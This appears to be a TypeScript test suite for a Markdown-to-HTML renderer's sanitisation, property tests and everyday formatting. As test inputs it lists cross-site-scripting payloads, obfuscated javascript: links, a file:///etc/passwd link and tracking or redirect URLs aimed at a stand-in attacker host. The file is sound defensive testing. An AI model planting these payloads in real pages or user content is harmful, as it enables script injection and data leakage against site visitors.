/** What Markdown becomes on the page: readable, complete, and harmless whatever it holds. */
import fc from "fast-check";
import { expect, test } from "vitest";
import { toHtml } from "../../adapters/web/render.ts";
import web from "../../adapters/web/index.ts";

test.each([
  ["a script", "<script>alert(1)</script>"],
  ["a script in a list", "- <script>alert(1)</script>"],
  ["an image with a handler", "<img src=x onerror=alert(1)>"],
  ["an image in Markdown", "![pixel](https://evil.example/p.png?leak=1)"],
  ["an image by reference", "![pixel][p]\n\n[p]: https://evil.example/p.png"],
  ["an image from data", "![x](data:image/svg+xml;base64,PHN2Zy8+)"],
  ["a frame", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ["an svg", "<svg onload=alert(1)><animate onbegin=alert(1)></svg>"],
  ["a style", "<style>*{background:url(https://evil.example)}</style>"],
  ["a form", '<form action="https://evil.example"><input name=p><button>go</button></form>'],
  ["a base", '<base href="https://evil.example/">'],
  ["a meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ["an object", '<object data="x"></object><embed src="x">'],
  ["raw html inside bold", "**<b onmouseover=alert(1)>x</b>**"],
  ["a broken tag", "<img src=x onerror=alert(1) //"],
  ["html in a table", "|a|\n|-|\n|<script>x</script>|"],
  ["html in a footnote", "x[^1]\n\n[^1]: <script>alert(1)</script>"],
])("S21: %s is shown, not run and not fetched", (_name, markdown) => {
  const html = toHtml(markdown);
  expect(html).not.toMatch(/<(script|img|iframe|svg|style|form|base|meta|object|embed|button|animate)/i);
  expect(html).not.toMatch(/<[^>]*\s(on\w+|style|src|srcdoc|action|id|name)\s*=/i);
});

test.each([
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:x)",
  "[x](file:///etc/passwd)",
  "[x](/logout)",
  "[x](//evil.example)",
  "[x](#form)",
  "<javascript:alert(1)>",
  "[x][r]\n\n[r]: javascript:alert(1)",
  "![x](javascript:alert(1))",
])("%s leads nowhere", (markdown) => {
  expect(toHtml(markdown)).not.toMatch(/href=/);
  expect(toHtml(markdown)).toMatch(/x|javascript/);
});

test("S21 twin: links open elsewhere and tell nothing", () => {
  for (const markdown of ["[a](https://example.org)", "https://example.org", "![a](https://example.org/a.png)"]) {
    expect(toHtml(markdown)).toMatch(/<a href="https:[^"]+" rel="noopener noreferrer" target="_blank">/);
  }
  expect(toHtml("[a](mailto:a@example.org)")).toContain('href="mailto:a@example.org"');
});

test("raw HTML is kept as words", () => {
  expect(toHtml("Use `Map<K, V>` or Map<string> and <div>this</div>.")).toContain("&#x3C;div>this&#x3C;/div>");
  expect(toHtml("<div>\nblock\n</div>")).toContain("block");
});

test("a line that looks like an address or a note that nothing refers to is not lost", () => {
  expect(toHtml("[Ana]: tomorrow")).toBe("<p>[Ana]: tomorrow</p>");
  expect(toHtml("- x\n\n  [Bo]: https://b.example 'at home'")).toContain('[Bo]: https://b.example "at home"');
  expect(toHtml("Words.\n\n[^1]: See the **book**.")).toMatch(
    /<p>\[1\]<\/p>\s*<p>See the <strong>book<\/strong>\.<\/p>/,
  );
  expect(toHtml("[a]\n\n[a]: https://a.example")).not.toContain("[a]:");
  expect(toHtml("Words[^1].\n\n[^1]: See the book.").match(/See the book/g)).toHaveLength(1);
});

test("what people write every day looks as meant", () => {
  const html = toHtml(
    "# T\n\n1. a\n2. b\n\n- [x] done\n\n| a | b |\n|:-:|--:|\n| 1 | 2 |\n\n```ts\nif (a < b) {}\n```\n~~no~~",
  );
  expect(html).toContain("<h1>T</h1>");
  expect(html).toContain('<input type="checkbox" checked disabled>');
  expect(html).toContain('<td align="right">2</td>');
  expect(html).toContain('<code class="language-ts">if (a &#x3C; b) {}');
  expect(html).toContain("<del>no</del>");
});

test("a text that nests without end is still shown, as written", () => {
  expect(toHtml(`${">".repeat(20_000)} hello`)).toBe(`<p>${">".repeat(20_000)} hello</p>`);
  expect(toHtml("[".repeat(20_000))).toBe(`<p>${"[".repeat(20_000)}</p>`);
  expect(toHtml(`${"*a **b ".repeat(490)}c${"** *".repeat(490)}`)).toContain("c");
});

test("always one part, whatever the text", () => {
  fc.assert(
    fc.property(fc.string({ unit: "binary", maxLength: 400 }), (text) => {
      const parts = web.render(text);
      expect(parts).toHaveLength(1);
      expect(parts[0]?.body).not.toMatch(/<(script|img|iframe|style)/i);
    }),
  );
});

test("no letter of a plain text is lost", () => {
  const letters = fc.string({ unit: fc.constantFrom("a", "b", " ", "<", ">", "é", "字", ".", "/"), maxLength: 200 });
  fc.assert(
    fc.property(letters, (text) => {
      const shown = toHtml(`a${text}`)
        .replace(/<[^>]*>/g, "")
        .replaceAll("&#x3C;", "<")
        .replaceAll(/\s/g, "");
      expect(shown.replaceAll(">", "")).toBe(`a${text}`.replaceAll(/\s/g, "").replaceAll(">", ""));
    }),
  );
});
